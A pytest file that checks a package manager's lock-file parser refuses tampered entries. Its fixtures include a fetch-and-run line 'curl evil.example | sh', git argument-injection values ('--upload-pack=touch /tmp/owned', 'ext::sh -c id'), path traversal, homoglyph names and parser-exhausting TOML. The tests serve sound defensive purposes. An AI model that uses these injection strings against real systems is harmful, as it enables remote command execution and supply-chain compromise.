"""An attacker who may edit skills.lock cannot make it pin less than it pinned."""

from __future__ import annotations

import pytest

from spm_spec.digests import blob_digest
from spm_spec.lock import InvalidLock, Lock, LockEntry, parse_lock, render_lock
from spm_spec.manifest import parse_manifest
from spm_spec.policy import Policy
from spm_spec.sources import GitSource, RegistrySource
from spm_spec.versions import Version

REGISTRY = "https://skills.example.org"
TREE = blob_digest(b"what was reviewed")
SHA256 = "ab" * 32
COMMIT = "1234567890" * 4
LOCK = Lock(
    requirements=("repo @ git+https://h.example/r", "summarise@^1.0"),
    entries=(
        LockEntry("repo", None, GitSource("https://h.example/r", None, None, COMMIT), TREE),
        LockEntry(
            "summarise",
            Version.parse("1.2.0"),
            RegistrySource(REGISTRY),
            TREE,
            SHA256,
            18234,
            publisher="0a" * 20,
            policy=Policy(network=("api.example.org:443",)),
        ),
    ),
)
TEXT = render_lock(LOCK)
MANIFEST = parse_manifest(
    '[skills]\nsummarise = "^1.0"\nrepo = { git = "https://h.example/r" }\n'
    f'[registries]\ndefault = "{REGISTRY}"\n'
)


def refused(text: str) -> InvalidLock:
    assert text != TEXT
    with pytest.raises(InvalidLock) as refusal:
        parse_lock(text, origin="skills.lock")
    return refusal.value


def test_the_untouched_lock_is_read() -> None:
    assert parse_lock(TEXT) == LOCK
    assert LOCK.matches(MANIFEST)


@pytest.mark.parametrize("line", ["tree = ", "archive = "])
def test_a_removed_digest_is_refused(line: str) -> None:
    kept = [one for one in TEXT.split("\n") if not one.startswith(line)]

    assert refused("\n".join(kept)).reason == "missing-digest"


def test_a_removed_archive_digest_is_refused_though_the_size_stays() -> None:
    assert refused(TEXT.replace(f'sha256 = "{SHA256}", ', "")).reason == "missing-digest"


@pytest.mark.parametrize("algorithm", ["sha1", "md5", "sha256", "BLAKE3", "none"])
def test_a_swapped_digest_algorithm_is_refused(algorithm: str) -> None:
    assert refused(TEXT.replace("blake3:", f"{algorithm}:")).reason == "digest-algorithm"


def test_an_emptied_digest_is_refused() -> None:
    assert refused(TEXT.replace(str(TREE), "")).reason == "digest"
    assert refused(TEXT.replace(TREE.hex, "")).reason == "digest"


def test_a_swapped_registry_is_seen_beside_the_manifest() -> None:
    """The text is a lock; what it says is not what the project binds the name to."""
    swapped = parse_lock(TEXT.replace(REGISTRY, "https://evil.example"))

    assert swapped.differences(MANIFEST) == (
        "`summarise` is locked from https://evil.example, not https://skills.example.org",
    )


def test_a_swapped_requirement_is_seen_beside_the_manifest() -> None:
    swapped = parse_lock(TEXT.replace("summarise@^1.0", "summarise@*"))

    assert swapped.differences(MANIFEST) == ("changed summarise@* to summarise@^1.0",)


def test_an_older_version_than_is_asked_for_is_seen() -> None:
    lock = Lock(
        ("a@*",),
        {},
        (
            LockEntry(
                "a",
                Version.parse("1.0.0"),
                RegistrySource(REGISTRY),
                TREE,
                SHA256,
                1,
                (("b", ">=2.0.1"),),
            ),
            LockEntry("b", Version.parse("2.0.0"), RegistrySource(REGISTRY), TREE, SHA256, 1),
        ),
    )

    assert parse_lock(render_lock(lock)).unmet() == ("`a` needs `b` >=2.0.1, locked is 2.0.0",)


@pytest.mark.parametrize(
    "line",
    [
        'install-script = "curl evil.example | sh"',
        "trusted = true",
        'integrity = "optional"',
        'url = "https://evil.example/x.spm"',
    ],
)
def test_an_unknown_field_is_never_ignored(line: str) -> None:
    refusal = refused(TEXT + line + "\n")

    assert refusal.reason == "unknown-field"
    assert refusal.hint == "a newer spm may have written this lock: use it, or run `spm lock`"


def test_a_second_value_for_a_key_is_refused() -> None:
    assert refused(TEXT + f'publisher = "{"0b" * 20}"\n').reason == "duplicate-key"


def test_a_second_entry_of_a_name_is_refused() -> None:
    entry = TEXT[TEXT.index('\n[[skill]]\nname = "summarise"') :]

    assert refused(TEXT + entry).reason == "duplicate-entry"


def test_a_stowaway_that_nobody_asked_for_is_refused() -> None:
    entry = TEXT[TEXT.index('\n[[skill]]\nname = "summarise"') :]

    refusal = refused(TEXT + entry.replace('"summarise"', '"zz-stowaway"'))
    assert (refusal.reason, refusal.line) == ("unasked", 22)


@pytest.mark.parametrize(
    "marker", ["<<<<<<< HEAD", "=======", ">>>>>>> theirs", "||||||| merged common ancestors"]
)
def test_a_conflict_marker_is_named_with_its_line(marker: str) -> None:
    lines = TEXT.split("\n")

    refusal = refused("\n".join([*lines[:8], marker, *lines[8:]]))
    assert (refusal.reason, refusal.line) == ("merge-conflict", 9)


@pytest.mark.parametrize("version", ["0", "2", "99", '"1"', "1.0", "true", "-1"])
def test_another_format_version_is_refused(version: str) -> None:
    refusal = refused(TEXT.replace("version = 1\n", f"version = {version}\n", 1))

    assert refusal.reason == "lock-version"


@pytest.mark.parametrize(
    ("old", "new"),
    [
        (COMMIT, "main"),
        (COMMIT, COMMIT[:7]),
        (COMMIT, "--upload-pack=touch /tmp/owned"),
        (f', commit = "{COMMIT}"', ""),
        ("https://h.example/r", "ext::sh -c id"),
        ("https://h.example/r", "https://me:secret@h.example/r"),
        ("https://h.example/r", "http://h.example/r"),
        (REGISTRY, "http://skills.example.org"),
        (REGISTRY, "https://me:secret@skills.example.org"),
        ('name = "summarise"', 'name = "../../summarise"'),
        ('name = "summarise"', 'name = "Summarise"'),
        ('name = "summarise"', 'name = "summar\u0456se"'),
        ("api.example.org:443", "*:443"),
        ("size = 18234", "size = 1e99"),
        ("size = 18234", f"size = {'9' * 5000}"),
        ("publisher", '"publisher"'),
    ],
)
def test_a_tampered_value_is_refused(old: str, new: str) -> None:
    refusal = refused(TEXT.replace(old, new))

    assert "secret" not in refusal.message


def test_hostile_toml_ends_quickly() -> None:
    for text in (
        "a = " + "[" * 60_000,
        "[" + ".".join("a" * 20_000) + "]",
        "a = {" + "b = {" * 10_000,
        "\n".join(f"[{'.'.join('a' * 15)}.k{number}]" for number in range(2_000)),
        'a = "' + "\\" * 60_000,
    ):
        assert refused(text).reason in {"syntax", "lock-version"}
